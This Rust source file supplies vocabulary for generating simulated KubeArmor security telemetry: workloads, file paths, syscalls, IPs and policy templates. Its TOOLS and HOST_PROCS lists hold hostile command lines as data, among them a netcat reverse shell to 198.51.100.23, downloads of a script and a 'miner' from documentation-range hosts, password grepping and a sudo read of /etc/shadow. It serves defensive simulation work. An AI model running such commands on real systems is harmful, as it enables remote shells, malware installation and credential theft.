//! Static vocabulary the generator draws from: cluster names, workloads, executables,
//! files, network endpoints, policies and daemon messages. Everything here is plain data;
//! [`crate::world`] and [`crate::generate`] turn it into events.

/// Cluster names; a simulation uses the first 2 or 3 (fewer when there are fewer nodes).
pub const CLUSTERS: &[&str] = &["prod-eu-west-1", "prod-us-east-2", "staging-eu-central"];

/// What owns a pod; `Podowner.Ref`.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum OwnerKind {
    /// `Deployment` (pods named `<app>-<rs hash>-<5 chars>`).
    Deployment,
    /// `DaemonSet` (one pod per node, `<app>-<5 chars>`).
    DaemonSet,
    /// `StatefulSet` (pods named `<app>-0`, `<app>-1`, …).
    StatefulSet,
}

impl OwnerKind {
    /// The name KubeArmor reports in `Owner.Ref`.
    pub fn as_str(self) -> &'static str {
        match self {
            OwnerKind::Deployment => "Deployment",
            OwnerKind::DaemonSet => "DaemonSet",
            OwnerKind::StatefulSet => "StatefulSet",
        }
    }
}

/// One simulated workload (a Deployment, DaemonSet or StatefulSet) and how its processes behave.
#[derive(Debug)]
pub struct App {
    /// Workload name, also the container name and the `app=` label.
    pub name: &'static str,
    /// Kubernetes namespace.
    pub namespace: &'static str,
    /// Value of the `tier=` label.
    pub tier: &'static str,
    /// Image repository (without tag).
    pub image: &'static str,
    /// Image tag.
    pub tag: &'static str,
    /// Owner kind.
    pub owner: OwnerKind,
    /// Main executable.
    pub exe: &'static str,
    /// Working directory of the main process.
    pub cwd: &'static str,
    /// User the main process runs as: (name, uid).
    pub user: (&'static str, i32),
    /// Files the application itself touches.
    pub files: &'static [&'static str],
    /// Ports it connects to or listens on.
    pub ports: &'static [u16],
}

#[allow(clippy::too_many_arguments)]
const fn app(
    name: &'static str,
    namespace: &'static str,
    tier: &'static str,
    image: &'static str,
    tag: &'static str,
    owner: OwnerKind,
    exe: &'static str,
    cwd: &'static str,
    user: (&'static str, i32),
    files: &'static [&'static str],
    ports: &'static [u16],
) -> App {
    App {
        name,
        namespace,
        tier,
        image,
        tag,
        owner,
        exe,
        cwd,
        user,
        files,
        ports,
    }
}

use OwnerKind::{DaemonSet, Deployment, StatefulSet};

/// The simulated workloads.
#[rustfmt::skip]
pub const APPS: &[App] = &[
    app("nginx-ingress", "frontend", "edge", "registry.k8s.io/ingress-nginx/controller", "v1.9.5", Deployment, "/usr/bin/nginx", "/etc/nginx", ("www-data", 101),
        &["/etc/nginx/nginx.conf", "/etc/nginx/mime.types", "/var/log/nginx/access.log", "/etc/ingress-controller/ssl/default-fake-certificate.pem", "/tmp/nginx/nginx-cfg1833295162"], &[80, 443, 8080]),
    app("web-ui", "frontend", "web", "ghcr.io/acme/web-ui", "v2.14.0", Deployment, "/usr/local/bin/node", "/app", ("node", 1000),
        &["/app/server.js", "/app/node_modules/express/index.js", "/app/dist/index.html", "/app/.env", "/tmp/v8-compile-cache-1000/11.3.244.8-node.16/zSappzSserver.js.BLOB"], &[3000, 8080]),
    app("checkout", "payments", "backend", "ghcr.io/acme/checkout", "v1.8.2", Deployment, "/opt/java/openjdk/bin/java", "/opt/app", ("app", 10001),
        &["/opt/app/checkout.jar", "/opt/java/openjdk/lib/modules", "/opt/app/config/application.yaml", "/tmp/hsperfdata_app/1", "/proc/self/mountinfo"], &[8080, 5432, 6379]),
    app("payment-api", "payments", "backend", "ghcr.io/acme/payment-api", "v3.2.1", Deployment, "/usr/local/bin/python3.11", "/srv", ("nobody", 65534),
        &["/srv/app/main.py", "/usr/local/lib/python3.11/site-packages/fastapi/__init__.py", "/srv/app/settings.toml", "/etc/ssl/certs/ca-certificates.crt", "/run/secrets/stripe/api-key"], &[8000, 443, 5432]),
    app("ledger-db", "payments", "db", "docker.io/library/postgres", "16.1", StatefulSet, "/usr/lib/postgresql/16/bin/postgres", "/var/lib/postgresql/data", ("postgres", 999),
        &["/var/lib/postgresql/data/base/16384/2619", "/var/lib/postgresql/data/pg_wal/000000010000000000000042", "/var/lib/postgresql/data/postgresql.conf", "/var/lib/postgresql/data/pg_hba.conf", "/var/run/postgresql/.s.PGSQL.5432.lock"], &[5432]),
    app("redis", "payments", "cache", "docker.io/library/redis", "7.2.4", StatefulSet, "/usr/local/bin/redis-server", "/data", ("redis", 999),
        &["/data/dump.rdb", "/data/appendonly.aof", "/usr/local/etc/redis/redis.conf", "/proc/sys/net/core/somaxconn"], &[6379]),
    app("coredns", "kube-system", "dns", "registry.k8s.io/coredns/coredns", "v1.11.1", Deployment, "/coredns", "/", ("root", 0),
        &["/etc/coredns/Corefile", "/etc/resolv.conf", "/etc/hosts"], &[53, 8080, 9153, 443]),
    app("kube-proxy", "kube-system", "network", "registry.k8s.io/kube-proxy", "v1.29.2", DaemonSet, "/usr/local/bin/kube-proxy", "/", ("root", 0),
        &["/var/lib/kube-proxy/config.conf", "/var/lib/kube-proxy/kubeconfig.conf", "/run/xtables.lock", "/proc/net/ip_tables_names"], &[443, 10249, 10256]),
    app("kubearmor", "kubearmor", "security", "docker.io/kubearmor/kubearmor", "v1.7.4", DaemonSet, "/KubeArmor/kubearmor", "/KubeArmor", ("root", 0),
        &["/opt/kubearmor/BPF/system_monitor.bpf.o", "/sys/kernel/security/lsm", "/etc/apparmor.d/kubearmor-default", "/proc/1/ns/pid", "/run/containerd/containerd.sock"], &[32767, 32766, 443]),
    app("prometheus", "monitoring", "metrics", "quay.io/prometheus/prometheus", "v2.49.1", StatefulSet, "/bin/prometheus", "/prometheus", ("nobody", 65534),
        &["/prometheus/wal/00000123", "/prometheus/chunks_head/000045", "/etc/prometheus/prometheus.yml", "/prometheus/queries.active"], &[9090, 9100, 10250, 8080]),
    app("node-exporter", "monitoring", "metrics", "quay.io/prometheus/node-exporter", "v1.7.0", DaemonSet, "/bin/node_exporter", "/", ("nobody", 65534),
        &["/host/proc/stat", "/host/proc/meminfo", "/host/sys/class/net/eth0/statistics/rx_bytes", "/host/proc/diskstats", "/host/proc/loadavg"], &[9100]),
    app("grafana", "monitoring", "ui", "docker.io/grafana/grafana", "10.3.1", Deployment, "/usr/share/grafana/bin/grafana", "/usr/share/grafana", ("grafana", 472),
        &["/var/lib/grafana/grafana.db", "/etc/grafana/grafana.ini", "/etc/grafana/provisioning/datasources/prometheus.yaml", "/var/lib/grafana/plugins"], &[3000, 9090]),
    app("wordpress", "default", "web", "docker.io/library/wordpress", "6.4-apache", Deployment, "/usr/sbin/apache2", "/var/www/html", ("www-data", 33),
        &["/var/www/html/wp-config.php", "/var/www/html/index.php", "/var/www/html/wp-content/uploads/2024/01/logo.png", "/etc/apache2/apache2.conf", "/var/log/apache2/error.log"], &[80, 3306]),
    app("mysql", "default", "db", "docker.io/library/mysql", "8.0.36", StatefulSet, "/usr/sbin/mysqld", "/var/lib/mysql", ("mysql", 999),
        &["/var/lib/mysql/ibdata1", "/var/lib/mysql/wordpress/wp_posts.ibd", "/var/lib/mysql/binlog.000012", "/etc/mysql/my.cnf", "/var/run/mysqld/mysqld.sock"], &[3306]),
    app("busybox-debug", "default", "debug", "docker.io/library/busybox", "1.36", Deployment, "/bin/sh", "/root", ("root", 0),
        &["/root/.ash_history", "/tmp/out.txt", "/etc/passwd"], &[80, 443]),
];

/// Files any process may touch (loader, libc, name resolution, procfs).
#[rustfmt::skip]
pub const COMMON_FILES: &[&str] = &[
    "/etc/ld.so.cache", "/lib/x86_64-linux-gnu/libc.so.6", "/lib/x86_64-linux-gnu/libpthread.so.0",
    "/usr/lib/x86_64-linux-gnu/libssl.so.3", "/usr/lib/x86_64-linux-gnu/libcrypto.so.3", "/etc/resolv.conf",
    "/etc/hosts", "/etc/nsswitch.conf", "/etc/passwd", "/etc/group", "/proc/self/status", "/proc/self/maps",
    "/proc/meminfo", "/sys/fs/cgroup/memory.max", "/sys/fs/cgroup/cpu.max", "/dev/null", "/dev/urandom",
    "/etc/localtime", "/usr/share/zoneinfo/UTC", "/etc/ssl/certs/ca-certificates.crt", "/tmp/tmp.X3fK9aQ2",
    "/var/run/secrets/kubernetes.io/serviceaccount/token", "/var/run/secrets/kubernetes.io/serviceaccount/ca.crt",
];

/// Sensitive files that policies protect.
#[rustfmt::skip]
pub const SENSITIVE_FILES: &[&str] = &[
    "/etc/shadow", "/etc/passwd", "/etc/sudoers", "/root/.ssh/authorized_keys", "/etc/ssl/private/server.key",
    "/var/run/secrets/kubernetes.io/serviceaccount/token", "/etc/kubernetes/admin.conf", "/proc/1/environ",
];

/// Open-flag variants for `SYS_OPENAT`/`SYS_OPEN` (read-mostly).
#[rustfmt::skip]
pub const OPEN_FLAGS: &[&str] = &[
    "O_RDONLY", "O_RDONLY", "O_RDONLY|O_CLOEXEC", "O_RDONLY|O_CLOEXEC", "O_RDONLY|O_NONBLOCK|O_CLOEXEC|O_DIRECTORY",
    "O_WRONLY|O_CREAT|O_APPEND", "O_RDWR|O_CREAT|O_CLOEXEC", "O_WRONLY|O_CREAT|O_TRUNC",
];

/// Tools run inside containers: (executable, argument lines).
#[rustfmt::skip]
pub const TOOLS: &[(&str, &[&str])] = &[
    ("/bin/sh", &["-c /healthcheck.sh", "-c 'echo ok'", "-c env", "/docker-entrypoint.sh"]),
    ("/bin/bash", &["", "-c 'cat /etc/os-release'", "-i", "-c 'ls /var/run/secrets'"]),
    ("/usr/bin/curl", &["-s http://localhost:8080/healthz", "-sSf https://api.stripe.com/v1/charges", "-o /tmp/x http://198.51.100.23/x.sh", "-k https://10.96.0.1:443/api"]),
    ("/usr/bin/wget", &["-qO- http://169.254.169.254/latest/meta-data/", "-q http://203.0.113.7:8000/miner -O /tmp/.m"]),
    ("/bin/cat", &["/etc/os-release", "/etc/passwd", "/proc/cpuinfo", "/etc/hostname"]),
    ("/bin/ls", &["-la /tmp", "/var/run/secrets/kubernetes.io/serviceaccount", "-l /app"]),
    ("/bin/ps", &["aux", "-ef"]),
    ("/usr/bin/id", &["", "-u"]),
    ("/bin/sleep", &["1", "5", "30"]),
    ("/usr/bin/env", &["", "python3 -V"]),
    ("/bin/grep", &["-r password /etc", "-c processor /proc/cpuinfo"]),
    ("/usr/bin/find", &["/ -perm -4000 -type f", "/tmp -mmin -5"]),
    ("/bin/tar", &["czf /tmp/backup.tgz /var/lib/data", "xzf /tmp/update.tgz -C /app"]),
    ("/usr/bin/apt-get", &["update", "install -y netcat"]),
    ("/sbin/apk", &["add curl", "update"]),
    ("/usr/bin/nc", &["-lvp 4444", "198.51.100.23 4444 -e /bin/sh"]),
];

/// Host processes: (executable, parent, argument lines, user, uid).
#[rustfmt::skip]
pub const HOST_PROCS: &[(&str, &str, &[&str], &str, i32)] = &[
    ("/usr/bin/kubelet", "/usr/lib/systemd/systemd", &["--config=/var/lib/kubelet/config.yaml --container-runtime-endpoint=unix:///run/containerd/containerd.sock"], "root", 0),
    ("/usr/bin/containerd", "/usr/lib/systemd/systemd", &["", "--config /etc/containerd/config.toml"], "root", 0),
    ("/usr/bin/containerd-shim-runc-v2", "/usr/bin/containerd", &["-namespace k8s.io -id 4f1c2ab7 -address /run/containerd/containerd.sock"], "root", 0),
    ("/usr/sbin/sshd", "/usr/lib/systemd/systemd", &["-D", "-D -R"], "root", 0),
    ("/usr/bin/bash", "/usr/sbin/sshd", &["", "-l", "-c 'sudo journalctl -u kubelet'"], "ubuntu", 1000),
    ("/usr/bin/sudo", "/usr/bin/bash", &["-i", "crictl ps", "cat /etc/shadow"], "ubuntu", 1000),
    ("/usr/sbin/cron", "/usr/lib/systemd/systemd", &["-f"], "root", 0),
    ("/usr/bin/journalctl", "/usr/bin/bash", &["-u kubelet -f", "--vacuum-time=7d"], "root", 0),
    ("/usr/sbin/iptables", "/usr/local/bin/kube-proxy", &["-w 5 -W 100000 -S KUBE-SERVICES -t nat", "-w 5 -N KUBE-POSTROUTING -t nat"], "root", 0),
    ("/usr/lib/systemd/systemd-journald", "/usr/lib/systemd/systemd", &[""], "root", 0),
];

/// Host files.
#[rustfmt::skip]
pub const HOST_FILES: &[&str] = &[
    "/var/lib/kubelet/config.yaml", "/etc/kubernetes/kubelet.conf", "/var/log/syslog", "/var/log/auth.log",
    "/etc/shadow", "/etc/ssh/sshd_config", "/run/containerd/containerd.sock", "/var/lib/containerd/io.containerd.metadata.v1.bolt/meta.db",
    "/etc/cni/net.d/10-calico.conflist", "/proc/sys/net/ipv4/ip_forward", "/sys/fs/cgroup/kubepods.slice/cpu.weight",
];

/// Linux capabilities seen in `Capabilities` events.
#[rustfmt::skip]
pub const CAPABILITIES: &[&str] = &[
    "CAP_NET_BIND_SERVICE", "CAP_NET_RAW", "CAP_SYS_ADMIN", "CAP_SETUID", "CAP_SETGID", "CAP_CHOWN",
    "CAP_DAC_OVERRIDE", "CAP_SYS_PTRACE", "CAP_NET_ADMIN",
];

/// `Syscall` events: (Data, Resource).
#[rustfmt::skip]
pub const SYSCALLS: &[(&str, &str)] = &[
    ("syscall=SYS_SETUID userid=0", "/usr/bin/su"),
    ("syscall=SYS_SETGID groupid=0", "/usr/bin/newgrp"),
    ("syscall=SYS_UNLINKAT dirfd=-100 flags=0", "/tmp/.X11-unix/lock"),
    ("syscall=SYS_UNLINK", "/var/log/wtmp"),
    ("syscall=SYS_RMDIR", "/tmp/build-cache"),
    ("syscall=SYS_CHMOD mode=0755", "/tmp/.m"),
    ("syscall=SYS_PTRACE request=PTRACE_ATTACH", "/proc/1/mem"),
    ("syscall=SYS_MOUNT flags=MS_BIND", "/host/etc"),
    ("syscall=SYS_UMOUNT2 flags=0", "/mnt/data"),
];

/// Peer addresses for network events.
#[rustfmt::skip]
pub const REMOTE_IPS: &[&str] = &[
    "10.96.0.1", "10.96.0.10", "10.244.1.17", "10.244.2.33", "10.244.3.8", "10.0.0.5", "172.20.4.11",
    "52.94.236.248", "140.82.121.4", "198.51.100.23", "203.0.113.7", "169.254.169.254",
];

/// A policy template: (name, operation, severity, tags, message, action, enforcer).
pub type Policy = (
    &'static str,
    &'static str,
    &'static str,
    &'static str,
    &'static str,
    &'static str,
    &'static str,
);

/// Container policies; the namespace is appended to the `…-in-` names.
#[rustfmt::skip]
pub const POLICIES: &[Policy] = &[
    ("ksp-block-shell-in-", "Process", "5", "NIST,NIST_800-53_CM-7,MITRE,MITRE_T1059_command_line_interface", "Shell execution detected and blocked", "Block", "BPFLSM"),
    ("ksp-block-pkg-mgr-exec-in-", "Process", "3", "NIST,NIST_800-53_CM-7(4),SI-4,process,NIST_800-53_SI-4", "Alert! Execution of package management process inside container is denied", "Block", "AppArmor"),
    ("ksp-audit-remote-tools-in-", "Process", "4", "MITRE,MITRE_T1105_ingress_tool_transfer", "Remote file copy tool executed", "Audit", "BPFLSM"),
    ("ksp-block-write-etc-in-", "File", "5", "NIST,NIST_800-53_AU-2,MITRE,MITRE_T1565_data_manipulation", "Alert! File integrity monitoring: write under /etc", "Block", "AppArmor"),
    ("ksp-audit-sa-token-access-in-", "File", "7", "MITRE,MITRE_T1528_steal_application_access_token", "Service account token was read", "Audit", "BPFLSM"),
    ("ksp-restrict-secrets-in-", "File", "8", "NIST,NIST_800-53_AC-3,PCI_DSS,PCI_DSS_3.4", "Access to secret material outside the application binary", "Audit (Block)", "BPFLSM"),
    ("ksp-block-raw-sockets-in-", "Network", "6", "NIST,NIST_800-53_SC-7,MITRE_T1040_network_sniffing", "Raw socket creation denied", "Block", "AppArmor"),
    ("ksp-allow-app-egress-in-", "Network", "2", "NIST,NIST_800-53_SC-7(5)", "Egress connection allowed by policy", "Allow", "BPFLSM"),
    ("ksp-block-ptrace-in-", "Syscall", "8", "MITRE,MITRE_T1055_process_injection", "Process tracing attempt blocked", "Block", "BPFLSM"),
    ("ksp-deny-cap-net-raw-in-", "Capabilities", "4", "NIST,NIST_800-53_AC-6,CIS,CIS_5.2.7", "Use of CAP_NET_RAW denied", "Block", "AppArmor"),
];

/// Host policies (names used as they are).
#[rustfmt::skip]
pub const HOST_POLICIES: &[Policy] = &[
    ("hsp-audit-ssh-login", "Process", "2", "NIST,NIST_800-53_AC-17,MITRE,MITRE_T1021_remote_services", "Interactive login on node", "Audit", "BPFLSM"),
    ("hsp-block-shadow-read", "File", "10", "NIST,NIST_800-53_AC-3,CIS,CIS_6.1.3", "Read of /etc/shadow blocked", "Block", "BPFLSM"),
    ("hsp-audit-kubelet-config", "File", "6", "CIS,CIS_4.1.9,NIST_800-53_CM-5", "Kubelet configuration accessed", "Audit", "AppArmor"),
];

/// Network policies (Type `MatchedNetworkPolicy`); the namespace is appended.
#[rustfmt::skip]
pub const NETWORK_POLICIES: &[Policy] = &[
    ("knp-deny-egress-mining-pools-in-", "Network", "9", "MITRE,MITRE_T1496_resource_hijacking", "Connection to known mining pool port", "Block", "BPFLSM"),
    ("knp-audit-metadata-api-in-", "Network", "7", "MITRE,MITRE_T1552.005_cloud_instance_metadata_api", "Cloud metadata API contacted", "Audit", "BPFLSM"),
];

/// Daemon message templates: (level, text). `{ns}`, `{pod}`, `{cid}`, `{policy}`, `{host}`,
/// `{pid}` get filled in.
#[rustfmt::skip]
pub const MESSAGES: &[(&str, &str)] = &[
    ("INFO", "Detected a Pod (added/{ns}/{pod})"),
    ("INFO", "Detected a Pod (modified/{ns}/{pod})"),
    ("INFO", "Detected a container (added/{cid})"),
    ("INFO", "Detected a container (removed/{cid})"),
    ("INFO", "Detected a security policy (modified/{ns}/{policy})"),
    ("INFO", "Updated security policies for {ns}/{pod}"),
    ("INFO", "Started to monitor system events"),
    ("INFO", "Node {host} is ready: enforcer BPFLSM, default posture audit"),
    ("DEBUG", "Received a pod event (MODIFIED/{ns}/{pod})"),
    ("DEBUG", "Updated the apparmor profile kubearmor-{ns}-{pod}"),
    ("DEBUG", "Alert throttling for container {cid}: 10 alerts/s, suppressed for 30 s"),
    ("DEBUG", "Sent 1000 events to gRPC subscriber 10.244.0.12:53102"),
    ("WARN", "Failed to read /proc/{pid}/ns/mnt: no such file or directory"),
    ("WARN", "Dropping events: subscriber queue full (1000)"),
    ("WARN", "Unable to resolve container {cid} from cgroup, retrying"),
    ("ERROR", "Failed to attach kprobe tcp_accept: permission denied"),
    ("ERROR", "Failed to connect to containerd: context deadline exceeded"),
];
